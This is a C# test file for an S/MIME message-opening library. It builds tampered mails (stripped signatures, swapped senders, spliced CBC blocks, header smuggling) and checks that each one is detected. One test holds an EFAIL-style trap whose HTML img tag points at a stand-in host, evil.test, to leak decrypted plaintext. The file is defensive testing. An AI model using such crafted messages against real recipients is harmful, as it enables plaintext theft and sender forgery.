using System.Security.Cryptography.X509Certificates;
using System.Text;
using MeSign.Statements.Sealing;
using MeSign.Statements.Signing;
using MeSign.Statements.Trust;
using Microsoft.Extensions.Time.Testing;
using static MeSign.Statements.Tests.Sealing.MailForgery;

namespace MeSign.Statements.Tests.Sealing;

/// <summary>What somebody on the way, or a dishonest recipient, can do to a message; each is named by the opener.</summary>
public class MessageAttackTests
{
    private const string Unsigned = "The message is encrypted but not signed: anyone can have written it, and AES-256-CBC alone does not show what was spliced into it.";

    private static readonly X509Certificate2 Client = SealingPki.Recipient("rsa2048");
    private static readonly X509Certificate2 Other = SealingPki.Recipient("rsa2048", "other@example.test");

    [Fact]
    public async Task Names_a_message_that_its_reader_encrypted_to_somebody_else()
    {
        var sent = await SealAsync(Client);

        var resent = SendOn(sent, Client, Other);

        Open(resent, Other).ShouldBe(["It was signed for client@example.test and opened with a certificate of other@example.test: somebody may have sent on what was meant for another."]);
    }

    [Theory]
    [InlineData("client@example.test", 1)]
    [InlineData("other@example.test", 0)]
    public void Names_a_message_sent_on_whose_sender_only_knows_the_older_protection_of_fields(string to, int problems)
    {
        using var bench = new Workbench();
        bench.Write("content", Encoding.ASCII.GetBytes($"From: statements@bank.test\r\nTo: {to}\r\nContent-Type: text/plain; protected-headers=\"v1\"\r\n\r\nHello\r\n"));
        bench.Run("openssl", "cms", "-sign", "-binary", "-nodetach", "-in", "content", "-out", "signed",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));
        var outside = Encoding.ASCII.GetBytes(
            $"From: statements@bank.test\r\nTo: other@example.test\r\nDate: {HeaderText.Date(TimeProvider.System.GetUtcNow())}\r\nMIME-Version: 1.0\r\nContent-Type: ");

        var found = Open(Encrypt(outside, File.ReadAllBytes(bench.Path("signed")), Other), Other);

        found.Count(problem => problem.Contains("sent on what was meant for another", StringComparison.Ordinal)).ShouldBe(problems, string.Join('\n', found));
    }

    [Fact]
    public async Task A_copy_for_the_archive_is_not_an_attack()
    {
        var opened = Opener().Open(await SealAsync(Client, Other), [Other], archives: [Other]);

        opened.Problems.ShouldBeEmpty();
        opened.IsValid.ShouldBeTrue();
    }

    [Fact]
    public async Task Names_an_encryption_that_the_sender_did_not_put_on()
    {
        var sent = Encoding.ASCII.GetString(await SealAsync());
        var body = sent[sent.IndexOf("Content-Type: multipart/signed", StringComparison.Ordinal)..];

        var wrapped = Encrypt(Encoding.ASCII.GetBytes(sent), Encoding.ASCII.GetBytes(body), Client);

        Open(wrapped, Client).ShouldBe(["Its sender signed it to be sent without encryption (hp=\"clear\"): somebody else encrypted it."]);
    }

    [Fact]
    public async Task Names_an_encryption_that_was_taken_off()
    {
        var sent = await SealAsync(Client);

        var clear = Header(sent).Concat(Decrypt(sent, Client)).ToArray();

        Open(clear).ShouldBe(["Its sender signed it to be sent encrypted (hp=\"cipher\"): somebody decrypted it and sent it on."]);
    }

    [Fact]
    public async Task Names_a_stripped_signature()
    {
        var sent = await SealAsync(Client);
        var content = Content(Decrypt(sent, Client));

        Open(StripSignature(sent, Client), Client).ShouldContain(Unsigned);
        Open([.. Header(sent), .. content]).ShouldContain("The message is neither signed nor encrypted.");
    }

    [Fact]
    public async Task Names_a_swapped_sender()
    {
        Open(SwapSender(await SealAsync())).ShouldBe(
        [
            "The field From was changed on the way.",
            "The outer From address statements@bank.evil.test is not the signer's: the certificate is for statements@bank.test.",
        ]);
    }

    [Fact]
    public async Task An_address_inside_an_encoded_name_is_no_address()
    {
        // =?…?= decodes to "statements@bank.test" <x@evil.test>, which only a reader that decodes first takes for structure.
        var word = $"=?utf-8?B?{Convert.ToBase64String("statements@bank.test, "u8)}?=";
        var sent = Encoding.ASCII.GetString(await SealAsync());
        var swapped = Encoding.ASCII.GetBytes(Replace(sent, "From: ", $"{word} <x@evil.test>"));

        Open(swapped).ShouldBe(
        [
            "The field From was changed on the way.",
            "The outer From address x@evil.test is not the signer's: the certificate is for statements@bank.test.",
        ]);
    }

    [Fact]
    public async Task Names_a_second_sender()
    {
        var sent = await SealAsync();

        Open([.. "From: statements@bank.evil.test\r\n"u8, .. sent])
            .ShouldContain("There is more than one From field: mail programs differ in which they show.");
    }

    [Fact]
    public async Task Names_content_that_was_altered_under_an_opaque_signature()
    {
        var sent = await SealAsync(Client);

        Open(AlterContent(sent, Client), Client).ShouldHaveSingleItem().ShouldContain("digest");
    }

    [Fact]
    public async Task A_spliced_first_block_makes_no_message()
    {
        var sent = await SealAsync(Client);

        Open(SpliceFirstBlock(sent), Client).ShouldContain(Unsigned);
    }

    [Fact]
    public async Task Spliced_blocks_are_named()
    {
        // The gadget block pair is the first ciphertext block again, in the middle of the content.
        var sent = await SealAsync(Client);
        var cms = RawEntity.Read(sent).DecodedBody().ToArray();
        var content = cms.Length / 2 / 16 * 16 + cms.Length % 16;
        cms.AsSpan(cms.Length - 32, 32).CopyTo(cms.AsSpan(content, 32));

        var opened = Opener().Open(Rewrap(sent, cms), [Client]);

        opened.IsValid.ShouldBeFalse();
        opened.Problems.ShouldNotBeEmpty();
    }

    [Fact]
    public async Task A_ciphertext_inside_somebody_elses_text_is_not_opened()
    {
        // EFAIL's other half: an image tag around a stolen message would send its plaintext away.
        var stolen = Encoding.ASCII.GetString(await SealAsync(Client));
        var cipher = stolen[stolen.IndexOf("Content-Type: application/pkcs7-mime", StringComparison.Ordinal)..];
        var trap = "From: a@evil.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
            + $"<img src=\"http://evil.test/\r\n--b\r\n{cipher}\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";

        var opened = Opener().Open(Encoding.ASCII.GetBytes(trap), [Client]);

        opened.Problems.ShouldBe(["The message is neither signed nor encrypted."]);
        (opened.Text + opened.Html).ShouldNotContain("4321");
    }

    [Fact]
    public void Names_a_signature_around_an_encryption()
    {
        using var bench = new Workbench();
        bench.Write("content", "Content-Type: text/plain\r\n\r\nHello\r\n"u8);
        bench.Run("openssl", "cms", "-encrypt", "-binary", "-in", "content", "-out", "encrypted", "-aes256", "-recip", bench.WriteCertificate(Client));
        bench.Run("openssl", "cms", "-sign", "-nodetach", "-in", "encrypted", "-out", "message.eml", "-from", "statements@bank.test",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));

        Open(File.ReadAllBytes(bench.Path("message.eml")), Client)
            .ShouldContain("The signature is around the encryption and not on the content: the signer need not have known it.");
    }

    [Fact]
    public void Names_a_second_signer_who_is_not_the_sender()
    {
        using var bench = new Workbench();
        var other = SealingPki.Signer("rsa2048", "mallory@evil.test");
        bench.Write("content", "Content-Type: text/plain\r\n\r\nHello\r\n"u8);
        bench.Run("openssl", "cms", "-sign", "-in", "content", "-out", "message.eml", "-from", "statements@bank.test",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()),
            "-signer", bench.WriteCertificate(other), "-inkey", bench.WriteKey(other));

        Open(File.ReadAllBytes(bench.Path("message.eml")))
            .ShouldContain("The outer From address statements@bank.test is not the signer's: the certificate is for mallory@evil.test.");
    }

    [Fact]
    public async Task A_signature_on_a_part_signs_nothing_of_the_whole()
    {
        var sent = Encoding.ASCII.GetString(await SealAsync());
        var signed = sent[sent.IndexOf("Content-Type: multipart/signed", StringComparison.Ordinal)..];
        var wrapped = $"{Encoding.ASCII.GetString(Header(Encoding.ASCII.GetBytes(sent)))}Content-Type: multipart/mixed; boundary=b\r\n\r\n"
            + $"--b\r\nContent-Type: text/plain\r\n\r\nPay to another account.\r\n--b\r\n{signed}\r\n--b--\r\n";

        Open(Encoding.ASCII.GetBytes(wrapped)).ShouldBe(["The message is neither signed nor encrypted."]);
    }

    [Fact]
    public void A_compressed_layer_is_not_blown_up()
    {
        // id-ct-compressedData (RFC 3274) is not part of what is opened, whatever is in it.
        var info = new System.Formats.Asn1.AsnWriter(System.Formats.Asn1.AsnEncodingRules.DER);
        using (info.PushSequence())
        {
            info.WriteObjectIdentifier("1.2.840.113549.1.9.16.1.9");
            using (info.PushSequence(new System.Formats.Asn1.Asn1Tag(System.Formats.Asn1.TagClass.ContextSpecific, 0)))
                info.WriteNull();
        }
        var eml = $"From: a@b.test\r\nContent-Type: application/pkcs7-mime; smime-type=compressed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(info.Encode())}\r\n";

        Open(Encoding.ASCII.GetBytes(eml)).ShouldContain("A layer is CMS of type 1.2.840.113549.1.9.16.1.9, which is neither signed nor encrypted data.");
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void A_hundred_thousand_protected_fields_are_compared_one_by_one(bool sameName)
    {
        // Each with each, or joined one after the other, would be ten thousand million steps.
        using var bench = new Workbench();
        var fields = string.Concat(Enumerable.Range(0, 100_000).Select(i => sameName ? "X:y\r\n" : $"{i}:y\r\n"));
        bench.Write("content", Encoding.ASCII.GetBytes($"From: statements@bank.test\r\n{fields}Content-Type: text/plain; hp=clear\r\n\r\nHello\r\n"));
        bench.Run("openssl", "cms", "-sign", "-binary", "-nodetach", "-in", "content", "-out", "message.eml", "-from", "statements@bank.test",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));

        Opener().Open(File.ReadAllBytes(bench.Path("message.eml")), Array.Empty<X509Certificate2>())
            .HeaderProtection.Differences.Count.ShouldBe(sameName ? 1 : 100_000);
    }

    [Fact]
    public void A_message_nested_thousands_of_times_is_a_problem_and_not_an_end()
    {
        using var bench = new Workbench();
        var nested = string.Concat(Enumerable.Range(0, 20_000).Select(i => $"Content-Type: multipart/mixed; boundary={i}\r\n\r\n--{i}\r\n"));
        bench.Write("content", Encoding.ASCII.GetBytes($"{nested}Content-Type: text/plain\r\n\r\nHello\r\n"));
        bench.Run("openssl", "cms", "-sign", "-binary", "-nodetach", "-in", "content", "-out", "message.eml", "-from", "statements@bank.test",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));

        Opener().Open(File.ReadAllBytes(bench.Path("message.eml")), Array.Empty<X509Certificate2>()).Signature!.Verdict.Signer!.DigestMatches.ShouldBeTrue();
    }

    [Fact]
    public async Task Names_a_certificate_that_has_expired()
    {
        var sent = await SealAsync(Client);
        var opener = Opener(time: new FakeTimeProvider(new DateTimeOffset(2050, 1, 1, 0, 0, 0, TimeSpan.Zero)));

        opener.Open(sent, [Client]).Problems.ShouldContain(problem => problem.Contains("expired at 2049-01-01", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Names_a_certificate_that_was_revoked()
    {
        var sent = await SealAsync(Client);

        Opener(CrlSet.Of([RevokeSigner()])).Open(sent, [Client]).Problems
            .ShouldContain(problem => problem.Contains("was revoked at", StringComparison.Ordinal));
    }

    private static MessageOpener Opener(CrlSet? crls = null, TimeProvider? time = null) =>
        new(new CmsVerifier(TrustAnchors.Of([SealingPki.Root]), TrustAnchors.None, crls ?? CrlSet.None, time ?? TimeProvider.System));

    private static IReadOnlyList<string> Open(byte[] eml, params X509Certificate2[] keys) => Opener().Open(eml, keys).Problems;
}
